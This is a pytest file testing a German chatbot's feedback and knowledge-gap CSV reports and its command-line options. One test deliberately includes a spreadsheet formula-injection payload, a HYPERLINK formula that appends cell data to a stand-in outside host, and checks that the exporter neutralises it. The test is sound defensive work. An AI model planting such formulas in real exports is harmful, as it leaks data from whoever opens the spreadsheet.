"""The logbook's admin reports in the Python API (`bot.reports`) and `python -m bot --gaps/--feedback`:
rows, CSV for German Excel (semicolon, UTF-8 with BOM), and the CLI's choice of question or report."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from bot import reports
from bot.__main__ import main as ask
from bot.logbook import Feedback, Logbook

pytestmark = pytest.mark.unit


def feedback(rating: int, question: str, answer: str = "Antwort", user: str | None = None) -> Feedback:
    return Feedback("2026-05-01T10:00:00+00:00", rating, "Kommentar; mit Semikolon", question, answer,
                    ["Satzung, S. 1", "FAQ"], user)


def test_report_rows_and_csv_are_pure() -> None:
    rows = reports.feedback_rows([feedback(1, "Wann?", "x" * 500, "anna"), feedback(-1, "Wo?")], answer_chars=300)
    assert rows[0][:2] == ["2026-05-01T10:00:00+00:00", "👍"] and len(rows[0][3]) == 300
    assert rows[1][1] == "👎" and rows[1][4] == "Satzung, S. 1; FAQ" and rows[1][6] == ""
    text = reports.csv_text(reports.FEEDBACK_HEADERS, rows)
    assert text.startswith("\ufeffZeit;Bewertung;Frage;Antwort;Quellen;Kommentar;Benutzer\r\n")
    parsed = list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))
    assert parsed[2] == ["2026-05-01T10:00:00+00:00", "👎", "Wo?", "Antwort", "Satzung, S. 1; FAQ",
                         "Kommentar; mit Semikolon", ""]
    table = reports.format_gaps([["Wo parke ich?", 2, "2026-05-01T10:00:00+00:00"]])
    assert "Wo parke ich?" in table and "Anzahl" in table
    assert "Keine Wissenslücken" in reports.format_gaps([])


def test_csv_cells_that_a_spreadsheet_would_run_are_quoted() -> None:
    """A declined question or a comment is user text: '=HYPERLINK(…)' must open as text, not as a formula."""
    rows = [["=HYPERLINK(\"http://x.example/?\"&A3;\"Klick\")", 1, "2026-05-01"], ["+49 123", 2, "-"],
            ["@SUM(A1)", 3, "\tTab"], ["Was kostet -5 Euro?", 4, "2026-05-02"]]
    parsed = list(csv.reader(io.StringIO(reports.csv_text(reports.GAP_HEADERS, rows).removeprefix("\ufeff")),
                             delimiter=";"))
    assert [r[0] for r in parsed[1:]] == ["'=HYPERLINK(\"http://x.example/?\"&A3;\"Klick\")", "'+49 123", "'@SUM(A1)",
                                         "Was kostet -5 Euro?"]
    assert [r[2] for r in parsed[1:]] == ["2026-05-01", "'-", "'\tTab", "2026-05-02"]
    assert parsed[1][1] == "1"  # numbers stay numbers


def test_writing_a_csv_again_replaces_it_and_leaves_no_part_file(tmp_path: Path) -> None:
    target = tmp_path / "wissensluecken.csv"
    reports.write_csv(target, reports.GAP_HEADERS, [["Alt?", 1, "2026-05-01"]])
    reports.write_csv(target, reports.GAP_HEADERS, [["Neu?", 2, "2026-05-02"]])
    assert [p.name for p in tmp_path.iterdir()] == ["wissensluecken.csv"]
    assert "Neu?;2;" in target.read_text(encoding="utf-8-sig") and "Alt?" not in target.read_text(encoding="utf-8-sig")


def fill_logbook(data: Path) -> None:
    book = Logbook(data / "logbook.sqlite")
    for question in ["Wo parke ich?", "wo parke ich? ", "Gibt es WLAN?"]:
        book.record_gap(question, None)
    book.record_feedback(-1, "Wie lange gilt der Ausweis?", "Zehn Jahre [1].", ["Personalausweis, S. 1"],
                         comment="zu kurz", user="anna")
    book.record_feedback(1, "Öffnungszeiten?", "Mo–Fr [1].", [])
    gap_rows = reports.gap_rows(book)
    book.close()
    assert gap_rows[0][:2] == ["Wo parke ich?", 2]


def test_bot_cli_gaps_and_feedback(cli_env: Path, tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]) -> None:
    assert ask(["--gaps"]) == 0  # no logbook yet: an empty report, and no logbook is created
    assert "Keine Wissenslücken".encode() in capsysbinary.readouterr().out and not (cli_env / "logbook.sqlite").exists()
    fill_logbook(cli_env)
    assert ask(["--gaps"]) == 0
    lines = capsysbinary.readouterr().out.decode("utf-8").splitlines()
    assert lines[0].startswith("Frage") and lines[2].startswith("Wo parke ich?") and lines[2].split()[-2] == "2"
    assert ask(["--feedback"]) == 0
    out = capsysbinary.readouterr().out
    assert out.startswith(b"\xef\xbb\xbfZeit;Bewertung;Frage")
    rows = list(csv.reader(io.StringIO(out.decode("utf-8-sig")), delimiter=";"))
    assert [r[2] for r in rows[1:]] == ["Öffnungszeiten?", "Wie lange gilt der Ausweis?"]  # newest first
    assert rows[2][5:] == ["zu kurz", "anna"]
    target = tmp_path / "export" / "gaps.csv"
    assert ask(["--gaps", "--output", str(target)]) == 0
    assert target.read_text(encoding="utf-8-sig").splitlines()[1].startswith("Wo parke ich?;2;")


@pytest.mark.parametrize(("argv", "message"), [
    ([], "Bitte eine Frage angeben"),
    (["Frage?", "--gaps"], "entweder eine Frage oder --gaps/--feedback"),
    (["--gaps", "--feedback"], "not allowed with argument"),
    (["Frage?", "--output", "x.csv"], "--output gibt es nur mit --gaps oder --feedback"),
])
def test_bot_cli_needs_a_question_or_a_report(cli_env: Path, capsys: pytest.CaptureFixture[str], argv: list[str],
                                              message: str) -> None:
    with pytest.raises(SystemExit) as exited:
        ask(argv)
    assert exited.value.code == 2 and message in capsys.readouterr().err
